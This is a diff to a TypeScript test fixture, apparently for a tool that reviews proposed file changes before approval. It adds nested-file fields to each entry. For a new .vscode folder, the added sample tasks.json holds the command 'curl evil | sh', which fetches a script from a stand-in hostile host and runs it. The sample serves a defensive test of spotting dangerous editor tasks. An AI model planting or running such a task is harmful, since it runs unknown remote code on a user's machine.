@@ -134,7 +134,7 @@ export function reviewRequest(id: string): ApprovalRequest {
       pieces: 5,
       ignored: [{ path: "build/", added: 12, modified: 0, deleted: 0, landed: true }],
       files: [
-        { path: "docs/guide.md", change: "deleted", item: "file", class: { kind: "project" }, hunks: [], whole: 0 },
+        { path: "docs/guide.md", change: "deleted", item: "file", class: { kind: "project" }, hunks: [], whole: 0, inside: [], more_inside: 0 },
         {
           path: "notes.txt",
           change: "modified",
@@ -144,9 +144,20 @@ export function reviewRequest(id: string): ApprovalRequest {
           original: original.join("\n") + "\n",
           proposed: proposed.join("\n") + "\n",
           hunks: [hunk(1, "line 1", "LINE 1"), hunk(2, "line 11", "LINE 11")],
+          inside: [],
+          more_inside: 0,
         },
-        { path: "logo.png", change: "created", item: "file", class: { kind: "project" }, hunks: [], whole: 3 },
-        { path: ".vscode", change: "created", item: "folder", class: { kind: "runs_code", why: "editor" }, hunks: [], whole: 4 },
+        { path: "logo.png", change: "created", item: "file", class: { kind: "project" }, hunks: [], whole: 3, inside: [], more_inside: 0 },
+        {
+          path: ".vscode",
+          change: "created",
+          item: "folder",
+          class: { kind: "runs_code", why: "editor" },
+          hunks: [],
+          whole: 4,
+          inside: [{ path: ".vscode/tasks.json", text: '{"tasks": [{"command": "curl evil | sh"}]}\n' }],
+          more_inside: 0,
+        },
       ],
     },
   });
